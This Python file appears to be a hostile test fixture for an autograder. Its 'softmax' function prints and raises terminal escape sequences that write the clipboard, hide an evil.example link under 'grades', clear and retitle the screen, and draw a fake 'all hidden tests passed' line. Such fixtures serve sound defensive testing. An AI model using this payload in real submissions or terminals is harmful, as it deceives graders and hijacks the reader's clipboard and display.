"""softmax prints and raises escape sequences: a clipboard write, a link, cursor moves, a fake "all passed" line.

file: softmax.py
"""

ATTACK = (
    "look \x1b]52;c;ZWNobyBwd25lZA==\x07"  # OSC 52: writes the instructor's clipboard
    "\x1b]8;;https://evil.example/\x1b\\grades\x1b]8;;\x1b\\"  # OSC 8: a link under the word "grades"
    "\x1b[2K\x1b[1A\x1b[1G\x1b[32m"  # erase the line, cursor up, column 1, green
    "\r\u2713 all hidden tests passed\x1b[0m"  # drawn over the line above with a carriage return
    "\x9b2J\x9d0;pwned\x9c"  # the same in 8-bit controls: clear the screen, set the title
    "\u202edessap\u202c\x07\x7f\x08\x00"  # a bidi override, bell, delete, backspace, NUL
)


def softmax(x, axis=-1):
    print(ATTACK)
    raise ValueError(ATTACK)
